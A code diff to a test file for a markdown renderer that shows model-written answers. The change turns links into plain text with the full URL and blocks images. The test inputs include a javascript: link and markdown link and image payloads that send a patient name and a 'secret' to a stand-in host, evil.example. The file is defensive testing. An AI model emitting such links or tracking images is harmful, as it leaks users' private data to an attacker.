@@ -34,13 +34,24 @@ describe('SafeMarkdown', () => {
     expect(c.textContent).toContain('Done here.');
   });
 
-  it('keeps only web and mail links, opened without access to the page', () => {
-    const c = html('See [PubMed](https://pubmed.ncbi.nlm.nih.gov/) or [this](javascript:alert(1)) or [mail](mailto:a@b.org) or https://example.org/x.');
-    const links = [...c.querySelectorAll('a')];
-    expect(links.map((a) => a.getAttribute('href'))).toEqual(['https://pubmed.ncbi.nlm.nih.gov/', 'mailto:a@b.org', 'https://example.org/x']);
-    expect(links[0].getAttribute('rel')).toContain('noopener');
-    expect(links[0].getAttribute('target')).toBe('_blank');
+  it('shows links the model wrote as text with the full URL, never live, and images never as images', () => {
+    const c = html(
+      'See [PubMed](https://pubmed.ncbi.nlm.nih.gov/) or [this](javascript:alert(1)) or [mail](mailto:a@b.org) or https://example.org/x.\n\n' +
+        '[details](https://evil.example/?leak=patient%20name) ![scan](https://evil.example/pixel.png?d=secret)',
+    );
+    expect(c.querySelector('a')).toBeNull();
+    expect(c.querySelector('img')).toBeNull();
+    const links = [...c.querySelectorAll('[data-testid="model-link"]')].map((l) => l.textContent);
+    expect(links).toEqual([
+      'PubMed <https://pubmed.ncbi.nlm.nih.gov/>',
+      'mail <mailto:a@b.org>',
+      '<https://example.org/x>',
+      'details <https://evil.example/?leak=patient%20name>',
+      'scan <https://evil.example/pixel.png?d=secret>',
+    ]);
+    // A link to a script or data URL keeps only its text.
     expect(c.textContent).toContain('or this or');
+    expect(c.textContent).not.toContain('javascript');
   });
 
   it('keeps line breaks of an answer written one finding per line, and Chinese text as is', () => {
